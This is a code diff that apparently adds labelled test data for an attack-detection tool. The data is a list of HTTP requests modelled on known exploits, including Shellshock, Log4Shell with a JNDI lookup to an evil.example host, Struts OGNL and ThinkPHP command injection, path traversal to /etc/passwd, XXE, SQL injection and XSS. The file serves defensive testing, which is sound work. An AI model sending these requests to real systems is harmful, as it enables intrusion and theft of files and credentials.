@@ -328,3 +328,25 @@ export const scannerAgents: string[] = [
 ]
 
 export const attackPayloads: AttackPayload[] = [...sqli, ...xss, ...lfi, ...rfi, ...rce, ...codeInjection]
+
+/** Whole requests in the shape of well-known exploits and probes (the payload is the request). */
+export const requestAttacks: { family: Family; request: { method: string; url: string; headers: Record<string, string>; body?: string } }[] = [
+  { family: 'lfi', request: { method: 'GET', url: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', headers: {} } },
+  { family: 'lfi', request: { method: 'GET', url: '/.env', headers: {} } },
+  { family: 'lfi', request: { method: 'GET', url: '/.git/config', headers: {} } },
+  { family: 'lfi', request: { method: 'GET', url: '/static/..%2f..%2f..%2fetc/passwd', headers: {} } },
+  { family: 'lfi', request: { method: 'GET', url: '/vpn/../vpns/cfg/smb.conf', headers: {} } },
+  { family: 'code-injection', request: { method: 'GET', url: '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id', headers: {} } },
+  { family: 'code-injection', request: { method: 'POST', url: '/upload.action', headers: { 'content-type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}" }, body: 'x' } },
+  { family: 'code-injection', request: { method: 'POST', url: '/user/register', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id' } },
+  { family: 'code-injection', request: { method: 'POST', url: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', headers: { 'content-type': 'text/plain' }, body: '<?php echo md5("x"); ?>' } },
+  { family: 'code-injection', request: { method: 'GET', url: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/', headers: {} } },
+  { family: 'code-injection', request: { method: 'GET', url: '/', headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } } },
+  { family: 'code-injection', request: { method: 'POST', url: '/app', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di' } },
+  { family: 'rce', request: { method: 'GET', url: '/cgi-bin/status', headers: { 'user-agent': '() { :;}; echo; /bin/bash -c "id"' } } },
+  { family: 'rce', request: { method: 'GET', url: '/', headers: { referer: '() { :;}; /bin/bash -c "cat /etc/passwd"' } } },
+  { family: 'sqli', request: { method: 'GET', url: '/login?user[$ne]=x&pass[$ne]=x', headers: {} } },
+  { family: 'sqli', request: { method: 'GET', url: '/', headers: { 'x-forwarded-for': "1' AND SLEEP(5)-- -" } } },
+  { family: 'xss', request: { method: 'GET', url: '/search', headers: { referer: 'https://evil.example/"><script>alert(1)</script>' } } },
+  { family: 'lfi', request: { method: 'POST', url: '/api/import', headers: { 'content-type': 'application/xml' }, body: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>' } },
+]
